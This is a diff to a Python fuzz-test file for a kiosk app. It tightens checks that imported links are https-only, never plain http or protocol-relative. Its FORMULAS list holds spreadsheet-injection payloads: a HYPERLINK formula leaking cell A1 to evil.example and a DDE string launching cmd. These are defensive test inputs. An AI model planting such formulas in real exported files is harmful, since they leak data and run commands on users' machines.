@@ -11,13 +11,14 @@ import sqlite3
 from datetime import datetime
 
 import pytest
-from hypothesis import HealthCheck, given, settings
+from hypothesis import HealthCheck, example, given, settings
 from hypothesis import strategies as st
 
 from cxkiosk.cells import TRIGGERS, protect, unprotect
 from cxkiosk.content.database import Content
 from cxkiosk.content.records import log_play
 from cxkiosk.content.transfer import ContentFileError, export_file, import_file
+from cxkiosk.links import HTTPS_ONLY
 from cxkiosk.report import build_report, render_csv
 
 FORMULAS = ['=HYPERLINK("https://evil.example/?leak="&A1,"Click")', "+cmd|' /C calc'!A0",
@@ -100,7 +101,9 @@ def _import_quietly(path) -> None:
         return
     assert result.added + result.updated + result.skipped + len(result.errors) >= 0
     for row in Content.select():  # whatever was accepted meets the rules
-        assert row.url == "" or row.url.startswith("https://")
+        # an https link, or a path on the showroom's page ("/offers"), kept in its canonical form
+        assert row.url == "" or HTTPS_ONLY.stored(row.url) == row.url, row.url
+        assert not row.url.startswith("http://")
         assert not row.path.startswith(("/", "\\")) and ".." not in row.path.split("/")
 
 
@@ -114,6 +117,8 @@ def test_fuzzed_json_imports_or_is_refused(db, tmp_path, data):
 
 @_FUZZ
 @given(st.lists(st.lists(st.text(max_size=10), max_size=6), max_size=6), st.booleans())
+@example([["Spring", "/ᦗ5z9!¥Â@", "web"]], True)  # a showroom path, as CI's fuzzing once found
+@example([["Spring", "http://example.com/a", "web"], ["Autumn", "//evil.example/x", "web"]], True)
 def test_fuzzed_csv_imports_or_is_refused(db, tmp_path, rows, header):
     buf = io.StringIO()
     writer = csv.writer(buf)
